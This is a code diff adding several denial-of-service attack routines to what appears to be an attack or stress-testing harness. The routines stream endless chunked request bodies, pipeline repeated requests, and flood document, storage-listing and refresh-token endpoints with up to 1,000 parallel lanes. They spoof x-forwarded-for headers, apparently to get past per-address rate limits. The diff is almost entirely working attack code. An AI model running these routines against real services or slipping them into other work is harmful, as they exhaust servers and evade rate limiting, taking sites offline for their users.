@@ -144,6 +144,40 @@ export const ATTACKS = {
   },
   'the page, a hundred at a time': (target) =>
     lanes(100, (turn) => ask(target.url, {from: crowd(turn), path: '/'})),
+  'bodies in pieces': (target) => {
+    const pieces = '1\r\na\r\n'.repeat(200_000)
+    const routes = [
+      ['GET', '/'],
+      ['POST', '/rest/v1/quiz_submissions'],
+      ['POST', '/v2025-02-19/data/query/production'],
+    ] as const
+    lanes(10, async (turn) => {
+      const [method, path] = routes[turn % 3] ?? routes[0]
+      const headers = {...json, apikey: target.key, 'transfer-encoding': 'chunked'}
+      await hold(target, head(method, path, {...headers, 'x-forwarded-for': crowd(turn)}) + pieces)
+      await setTimeout(1_000)
+    })
+  },
+  'documents by their ids': (target) => {
+    const ids = Array.from({length: 20}, (_, n) => `faq-${n}`).join()
+    lanes(50, (turn) => ask(target.url, {from: crowd(turn), path: `/v2025-02-19/data/doc/production/${ids}`}))
+  },
+  'files that nobody reads': (target) =>
+    lanes(700, async (turn) => {
+      const one = head('GET', target.picture, {'x-forwarded-for': crowd(turn % 20)})
+      await hold(target, one.repeat(31))
+      await setTimeout(1_000)
+    }),
+  'lists and tokens of one address': (target) =>
+    lanes(1_000, (turn) =>
+      ask(target.url, {
+        from: ONE,
+        path: turn % 2 ? '/storage/v1/object/list/quiz-photos' : '/auth/v1/token?grant_type=refresh_token',
+        method: 'POST',
+        headers: {apikey: target.key, ...json},
+        body: turn % 2 ? '{"prefix":""}' : '{"refresh_token":"x"}',
+      }),
+    ),
   // The last, for they use up what all together may send in an hour.
   'bodies as large as may be': (target) => {
     const bytes = new Uint8Array(jpeg(5_000_000))
